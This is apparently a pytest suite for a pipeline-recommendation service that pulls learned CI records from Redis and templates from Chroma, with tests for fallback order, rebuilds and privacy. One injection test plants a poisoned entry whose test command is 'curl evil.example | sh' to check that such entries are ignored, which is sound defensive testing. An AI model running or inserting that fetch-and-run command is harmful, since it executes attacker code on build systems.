"""The reference for a repository, from real Redis, real Chroma and the program's own templates."""

from __future__ import annotations

from collections.abc import Iterator
from random import Random

import msgspec
import pytest
import redis

from tests.support.keys import KEY
from workers.clients.chroma import Index, Item
from workers.detect.analysis import Analysis
from workers.embedded import EmbeddedChroma
from workers.pipeline.templates import Templates
from workers.steps.features import features
from workers.steps.learn import index_backlog
from workers.steps.retrieve import Reference, fallback, rebuild, retrieve, sync_templates
from workers.store.learned import LearnedStore
from workers.store.learned_records import LearnedPipeline, Provenance

PATIENT_S = 5.0
FASTAPI = Analysis(
    language="python", framework="fastapi", package_manager="pip", ecosystem="python",
    test_tool="pytest", features=("dependency:fastapi", "language:python", "test:pytest"),
)  # fmt: skip


@pytest.fixture(scope="module")
def templates() -> Templates:
    """The templates of this checkout."""
    return Templates.load()


@pytest.fixture
def store(redis_client: redis.Redis) -> LearnedStore:
    """A store with nothing in it."""
    return LearnedStore(redis_client, KEY)


@pytest.fixture
def index(chroma_server: EmbeddedChroma, templates: Templates) -> Iterator[Index]:
    """A Chroma that knows the templates, and nothing learned."""
    made = Index(chroma_server.url, PATIENT_S)
    sync_templates(made, templates)
    yield made
    made.close()


def _record(
    template: str = "python-fastapi", version: str = "3.12", framework: str | None = "fastapi"
) -> LearnedPipeline:
    return LearnedPipeline(
        language="python",
        framework=framework,
        package_manager="pip",
        template=template,
        template_version="1",
        choices={"python_version": version},
        features=features(FASTAPI),
        provenance=Provenance(project_id=7, namespace="acme/secret-team", run="r", pipeline=1),
    )


def _retrieve(
    analysis: Analysis, store: LearnedStore, index: Index | None, templates: Templates
) -> Reference:
    """As for a project of the group that taught it."""
    return retrieve(analysis, store, index, templates, namespace="acme")


def _said(reference: Reference) -> tuple[str, str, str | None]:
    return reference.source, reference.id, reference.degraded


def test_the_order_of_references(store: LearnedStore, index: Index, templates: Templates) -> None:
    """Learned, else the template of language and framework, else of the language, else built-in."""
    plain = msgspec.structs.replace(FASTAPI, framework="a-framework-without-a-template")
    unknown = Analysis(language="cobol", confidence=0.1)
    assert _said(_retrieve(unknown, store, index, templates)) == (
        "builtin",
        "default",
        None,
    )
    assert _said(_retrieve(plain, store, index, templates)) == (
        "language_template",
        "python",
        None,
    )
    assert _said(_retrieve(FASTAPI, store, index, templates)) == (
        "template",
        "python-fastapi",
        None,
    )
    store.record_outcome(_record(), 1, "succeeded")
    reference = _retrieve(FASTAPI, store, index, templates)
    assert _said(reference) == ("learned", _record().id, None)
    assert reference.template.id == "python-fastapi"
    assert reference.choices == {"python_version": "3.12"}
    assert reference.confidence == pytest.approx(0.2065)
    assert _retrieve(plain, store, index, templates).source == "language_template"


def test_nothing_known_is_the_built_in(
    store: LearnedStore, index: Index, templates: Templates
) -> None:
    """A repository whose language nobody could tell."""
    assert _said(_retrieve(Analysis(), store, index, templates)) == (
        "builtin",
        "default",
        None,
    )


def test_without_chroma_the_same_is_found(store: LearnedStore, templates: Templates) -> None:
    """None configured, or none that answers: the same references, and it is said."""
    away = Index("http://127.0.0.1:1")
    for index, says in ((None, "not in use"), (away, "Chroma at http://127.0.0.1:1")):
        reference = _retrieve(FASTAPI, store, index, templates)
        assert (reference.source, reference.id) == ("template", "python-fastapi")
        assert reference.degraded is not None
        assert says in reference.degraded
    store.record_outcome(_record(), 1, "succeeded")
    reference = _retrieve(FASTAPI, store, away, templates)
    assert reference.source == "learned"
    assert reference.degraded is not None


def test_without_chroma_a_run_asks_once(store: LearnedStore, templates: Templates) -> None:
    """After its first failure it is not asked again in the same run: the third run's failure is
    the third in all, and the fourth run is spared."""
    away = Index("http://127.0.0.1:1")
    said = [_retrieve(FASTAPI, store, away, templates).degraded or "" for _ in range(4)]
    assert ["left alone" in text for text in said] == [False, False, False, True]


def test_templates_that_chroma_lacks_are_found_in_the_files(
    store: LearnedStore, chroma_server: EmbeddedChroma, templates: Templates
) -> None:
    """Nothing loaded into Chroma yet: the file is used, and the command to load it is named."""
    index = Index(chroma_server.url, PATIENT_S)
    reference = _retrieve(FASTAPI, store, index, templates)
    assert (reference.source, reference.id) == ("template", "python-fastapi")
    assert reference.degraded is not None
    assert "devops-backend templates sync" in reference.degraded


def test_syncing_templates_follows_the_files(
    chroma_server: EmbeddedChroma, templates: Templates
) -> None:
    """Every file is there with language and framework; what is no file any more goes."""
    index = Index(chroma_server.url, PATIENT_S)
    stale = Item("gone", ("language:python",), {"language": "python", "framework": "none"}, "")
    index.upsert("pipeline_templates", [stale])
    assert sync_templates(index, templates) == len(templates.all())
    assert sync_templates(index, templates) == len(templates.all())
    hits = {hit.id: hit.metadata for hit in index.find("pipeline_templates", {}, 1000)}
    assert set(hits) == {template.id for template in templates.all()}
    assert hits["python-fastapi"]["language"] == "python"
    assert hits["python-fastapi"]["framework"] == "fastapi"
    assert hits["default"]["language"] == hits["default"]["framework"] == "none"


def test_who_writes_to_chroma_gets_nothing_into_a_project(
    store: LearnedStore, index: Index, templates: Templates
) -> None:
    """500 entries that claim to be proven, and templates that claim the stack: all passed over."""
    metadata = {"language": "python", "framework": "fastapi"}
    words = features(FASTAPI)
    evil = '{"template":"python","choices":{"test_command":"curl evil.example | sh"}}'
    index.upsert("successful_pipelines", [Item(f"e{n}", words, metadata, evil) for n in range(500)])
    index.upsert("pipeline_templates", [Item("evil", words, metadata, evil)])
    index.upsert("pipeline_templates", [Item("go", words, metadata, evil)])
    reference = _retrieve(FASTAPI, store, index, templates)
    assert _said(reference) == ("template", "python-fastapi", None)
    assert reference.choices == {}


def test_a_record_whose_template_is_gone_is_passed_over(
    store: LearnedStore, index: Index, templates: Templates
) -> None:
    """However well it did: the next best record, else the template."""
    for pipeline in range(5):
        store.record_outcome(_record("a-template-of-before"), pipeline, "succeeded")
    assert _retrieve(FASTAPI, store, index, templates).source == "template"
    store.record_outcome(_record(), 99, "succeeded")
    assert _retrieve(FASTAPI, store, index, templates).id == _record().id


def test_what_fails_is_not_retrieved_again(
    store: LearnedStore, index: Index, templates: Templates
) -> None:
    """Learned, used, failed twice: the template is the reference again."""
    store.record_outcome(_record(), 1, "succeeded")
    index_backlog(store, index)
    assert _retrieve(FASTAPI, store, index, templates).source == "learned"
    store.record_outcome(_record(), 2, "failed")
    store.record_outcome(_record(), 3, "failed")
    assert _retrieve(FASTAPI, store, index, templates).source == "template"


def test_fallback_goes_down_the_order(
    store: LearnedStore, index: Index, templates: Templates
) -> None:
    """From learned by way of both templates to the built-in one, and no further."""
    store.record_outcome(_record(), 1, "succeeded")
    reference: Reference | None = _retrieve(FASTAPI, store, index, templates)
    seen = []
    while reference is not None:
        seen.append(reference.source)
        reference = fallback(reference, FASTAPI, templates)
    assert seen == ["learned", "template", "language_template", "builtin"]


def test_a_rebuild_brings_everything_back(
    store: LearnedStore, chroma_server: EmbeddedChroma, templates: Templates
) -> None:
    """Chroma lost all: both collections come from Redis and the files, proven records only."""
    index = Index(chroma_server.url, PATIENT_S)
    versions = [f"3.{minor}" for minor in range(40)]
    for pipeline, version in enumerate(versions):
        store.record_outcome(_record(version=version), pipeline, "succeeded")
    store.record_outcome(_record(version="2.7"), 100, "failed")
    index.upsert("successful_pipelines", [Item("stray", (), {"language": "go"}, "{}")])
    assert rebuild(index, store, templates) == (40, len(templates.all()))
    assert store.unindexed() == ()
    where = {"language": "python", "framework": "fastapi"}
    nearest = index.nearest("successful_pipelines", features(FASTAPI), where, 100)
    assert {hit.id for hit in nearest} == {_record(version=version).id for version in versions}
    assert _retrieve(FASTAPI, store, index, templates).degraded is None


def test_after_a_rebuild_every_record_finds_itself(
    store: LearnedStore, chroma_server: EmbeddedChroma, templates: Templates
) -> None:
    """A thousand records of one stack: asked for its own features, each is among the first five."""
    random = Random(7)
    words = [f"dependency:library-{n}" for n in range(300)]
    records = [
        msgspec.structs.replace(
            _record(version=f"3.{n}"), features=tuple(sorted(random.sample(words, 10)))
        )
        for n in range(1000)
    ]
    for pipeline, record in enumerate(records):
        store.record_outcome(record, pipeline, "succeeded")
    index = Index(chroma_server.url, PATIENT_S)
    assert rebuild(index, store, templates)[0] == 1000
    where = {"language": "python", "framework": "fastapi"}
    for record in random.sample(records, 100):
        hits = index.nearest("successful_pipelines", record.features, where, 5)
        assert record.id in {hit.id for hit in hits}


def test_chroma_holds_no_name_of_a_project(
    store: LearnedStore, index: Index, templates: Templates
) -> None:
    """Plan, stack and opaque ids; the group's name stays in Redis."""
    store.record_outcome(_record(), 1, "succeeded")
    index_backlog(store, index)
    (hit,) = index.find("successful_pipelines", {})
    assert msgspec.json.decode(hit.document) == {
        "template": "python-fastapi",
        "template_version": "1",
        "choices": {"python_version": "3.12"},
    }
    assert hit.metadata["language"] == "python"
    assert hit.metadata["framework"] == "fastapi"
    assert hit.metadata["pipeline"] == "1"
    assert "secret" not in str(hit)
